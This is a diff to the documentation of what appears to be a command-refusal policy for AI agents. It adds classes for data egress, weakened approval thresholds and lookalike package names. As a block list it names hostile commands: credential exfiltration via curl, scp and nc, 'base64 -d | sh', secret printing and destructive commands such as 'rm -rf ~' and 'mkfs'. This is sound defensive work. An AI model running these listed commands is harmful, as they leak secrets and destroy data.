@@ -13,6 +13,8 @@ spellings. It refuses, by class:
 - **obfuscated code run**: decoded blobs run the same ways (`base64 -d | sh`, `-enc`);
 - **exfiltration**: local files or credentials sent out (`curl -F f=@.env`, `-T file`,
   `wget --post-file`, `scp ~/.ssh/id_rsa host:`, `nc host < file`, `$(cat .env)` in a URL);
+  data wired to another host (an exporter, a run hook, an unload) with its redaction off or
+  for someone else: a partner, a vendor, a public bucket (`egress`);
 - **credential access**: reading `~/.ssh`, `.env`, credential files, keychains, tokens, secret
   stores; printing secrets from the environment (`env`, `echo $GITHUB_TOKEN`, `print(os.environ)`)
   unless filtered to harmless names (`env | grep PATH`); a home or credential folder mounted
@@ -24,10 +26,13 @@ spellings. It refuses, by class:
 - **destructive command**: `rm -rf ~`, `mkfs`, `dd of=/dev/sda`, a fork bomb, ….
 - **weakening a safeguard** and **adding a code source** (`effects`, over the tables of
   `safeguards`): hooks skipped, TLS or checksums off, tests or CI disabled, reviews or branch
-  protection removed, security software off, permissions widened, agent permission bypasses;
-  new package indexes, packages run unseen or named like a well-known one (`lookalike`,
-  `packages`), MCP servers, git dependencies, binaries saved to run. Judged by polarity: a rule
-  that forbids the weakening ("never use --no-verify") passes.
+  protection removed, security software off, permissions widened, agent permission bypasses,
+  a count a change must pass (approvals, reviewers, coverage, retention) set to 0 or removed
+  in any language (`thresholds`); new package indexes, packages run unseen or named like a
+  well-known one in a command, a manifest or prose of any language (`lookalike`, `packages`,
+  `named`), MCP servers, git dependencies, binaries saved to run. An exact release of a
+  package run as a README documents it (`npx tool@2.13.4 …`) is no new source. Judged by
+  polarity: a rule that forbids the weakening ("never use --no-verify") passes.
 
 Words aimed at an agent are read in any language (`tongues`), and hidden characters by class.
 
